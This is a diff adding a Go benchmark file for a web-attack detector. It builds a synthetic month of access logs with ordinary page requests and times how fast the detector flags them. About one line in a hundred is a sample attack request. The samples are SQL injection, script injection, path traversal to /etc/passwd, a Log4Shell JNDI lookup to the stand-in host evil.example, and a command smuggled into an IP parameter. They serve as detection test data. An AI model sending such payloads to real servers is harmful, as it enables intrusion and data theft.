@@ -1,0 +1,61 @@
+package attack
+
+import (
+	"fmt"
+	"strings"
+	"testing"
+)
+
+// monthLog is n access-log lines of ordinary traffic with one attack in
+// every hundred.
+func monthLog(n int) string {
+	var b strings.Builder
+	pages := []string{"/", "/products/list?category=bearing&page=2", "/search?q=%E6%9D%B1%E4%BA%AC&page=1",
+		"/assets/css/site.min.css?v=3", "/img/logo.png", "/news/2026/11/press.html?utm_source=mail", "/contact/submit"}
+	bad := []string{"/item.php?id=1%27%20OR%20%271%27%3D%271", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
+		"/dl?file=../../../../etc/passwd", "/?x=${jndi:ldap://evil.example/a}", "/diag?ip=1.1.1.1;cat%20/etc/passwd"}
+	for i := 0; i < n; i++ {
+		uri := pages[i%len(pages)]
+		if i%100 == 50 {
+			uri = bad[(i/100)%len(bad)]
+		}
+		fmt.Fprintf(&b, "203.0.%d.%d - - [03/Nov/2026:10:%02d:%02d +0900] \"GET %s HTTP/1.1\" 200 %d \"-\" \"%s\"\n",
+			i%250, i%200, (i/60)%60, i%60, uri, 2000+i%500, chromeUA)
+	}
+	return b.String()
+}
+
+// BenchmarkMonth1M: a month of one busy site, 1,000,000 lines with 1 %
+// attacks, read and analysed (make bench prints ns/op = the month's time).
+func BenchmarkMonth1M(b *testing.B) {
+	text := monthLog(1_000_000)
+	d, err := NewDetector(1)
+	if err != nil {
+		b.Fatal(err)
+	}
+	b.ResetTimer()
+	for b.Loop() {
+		f, err := ReadFile("access.log", strings.NewReader(text), asOf, 0)
+		if err != nil {
+			b.Fatal(err)
+		}
+		before := d.Evaluated()
+		s := Analyze("web", []*File{f}, d, DefaultOptions())
+		b.ReportMetric(float64(d.Evaluated()-before), "evaluated")
+		if len(s.Signs) < 4 {
+			b.Fatalf("signs %+v", s.Signs)
+		}
+	}
+}
+
+// BenchmarkEvaluate is the cost of one request through the full rule set.
+func BenchmarkEvaluate(b *testing.B) {
+	d, err := NewDetector(1)
+	if err != nil {
+		b.Fatal(err)
+	}
+	r := Request{Method: "GET", URI: "/search?q=tokyo+tower+hours&lang=en", UserAgent: chromeUA}
+	for b.Loop() {
+		d.full(r)
+	}
+}
